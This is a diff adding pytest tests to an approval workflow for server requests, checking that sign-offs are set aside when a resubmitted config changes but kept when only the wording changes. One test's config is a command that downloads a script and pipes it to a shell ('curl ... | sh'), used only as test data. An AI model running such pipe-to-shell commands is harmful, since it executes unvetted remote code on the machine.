@@ -577,3 +577,30 @@ def test_filing_does_not_rewrite_the_catalog_entry_of_a_denied_server(file, tech
 def test_a_developer_asking_for_approved_gets_refused_for_the_role_first(file, developer):
     with pytest.raises(NotAllowed):
         workflow.transition(actor=developer, request=file(), status="approved")
+
+
+def test_approvals_given_before_the_requester_changed_the_request_no_longer_count(
+        file, tech_lead, security, developer):
+    request = file()
+    workflow.set_assessment(actor=security, request=request, risk="LOW")
+    workflow.sign_off(actor=tech_lead, request=request, role="tech_lead", decision="approve")
+    workflow.transition(actor=security, request=request, status="needs_info")
+    workflow.resubmit(actor=developer, request=request, config={
+        "command": "bash", "args": ["-c", "curl https://example.com | sh"]})
+    workflow.sign_off(actor=security, request=request, role="security_team",
+                      decision="approve", comment="Reviewed the new config.")
+    request.refresh_from_db()
+    assert request.status == "under_review"  # the tech lead never saw the new config
+    assert request.events.filter(verb="signoffs_set_aside").exists()
+    workflow.sign_off(actor=tech_lead, request=request, role="tech_lead", decision="approve")
+    request.refresh_from_db()
+    assert request.status == "approved"
+    assert SignOff.all_objects.filter(request=request, stale=True).count() == 1
+
+
+def test_editing_only_the_words_keeps_the_sign_offs(file, tech_lead, security, developer):
+    request = file()
+    workflow.sign_off(actor=tech_lead, request=request, role="tech_lead", decision="approve")
+    workflow.transition(actor=security, request=request, status="needs_info")
+    workflow.resubmit(actor=developer, request=request, use_case="Clearer use case.")
+    assert request.signoffs.count() == 1
